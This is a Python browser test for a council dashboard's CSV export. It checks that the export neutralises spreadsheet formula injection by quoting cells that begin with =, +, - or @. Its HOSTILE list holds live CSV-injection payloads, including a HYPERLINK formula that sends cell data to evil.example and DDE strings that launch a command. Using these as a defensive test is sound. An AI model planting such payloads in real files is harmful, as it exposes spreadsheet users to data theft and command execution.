"""The directorate table's "Download CSV" (dash-ag-grid's own export, in the browser) never hands a spreadsheet a
formula: titles that begin with = + - @ get a leading quote, the values' numbers (-3.5) stay as they are, and the
page runs with zero console errors under the content security policy (dash-ag-grid parses the function itself)."""

import csv
import io

import pytest
from playwright.sync_api import expect
from sqlalchemy import select, update

from benchmarks.server import serve
from dashboards import ids
from data.core import db
from data.core.models import Directorate, Measure, Service
from tests.conftest import private_copy

pytestmark = pytest.mark.browser
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def hostile_server(demo_sqlite_url, tmp_path_factory):
    url = private_copy(demo_sqlite_url, tmp_path_factory.mktemp("grid-csv") / "council.db")
    eng = db.make_engine(url)
    with eng.begin() as conn:
        slug = conn.execute(select(Directorate.slug).order_by(Directorate.id)).scalars().first()
        codes = conn.execute(select(Measure.code).join(Service).join(Directorate)
                             .where(Directorate.slug == slug).order_by(Measure.code)).scalars().all()
        for code, title in zip(codes, HOSTILE):
            conn.execute(update(Measure).where(Measure.code == code).values(title=title))
    eng.dispose()
    with serve(url, workers=1, SECRET_KEY="grid-csv-secret", REDIS_URL=None) as base:
        yield base, slug


def test_download_csv_neutralises_formulas(page, hostile_server):
    base, slug = hostile_server
    errors = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(f"{base}/directorate/{slug}")
    expect(page.locator(f"#{ids.DIRECTORATE_GRID} .ag-row").first).to_be_visible(timeout=30_000)
    with page.expect_download(timeout=30_000) as download:
        page.get_by_role("button", name="Download CSV").click()
    content = open(download.value.path(), encoding="utf-8-sig").read()
    rows = list(csv.reader(io.StringIO(content)))
    cells = [c for row in rows[1:] for c in row]
    titles = [row[1] for row in rows[1:]]
    for hostile in HOSTILE:
        assert "'" + hostile in titles, hostile
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert all(not c.startswith("-") or c.replace(".", "", 1).lstrip("-").replace(",", "").rstrip("%").isdigit()
               for c in cells), [c for c in cells if c.startswith("-")]
    assert len(rows) > 5 and errors == []
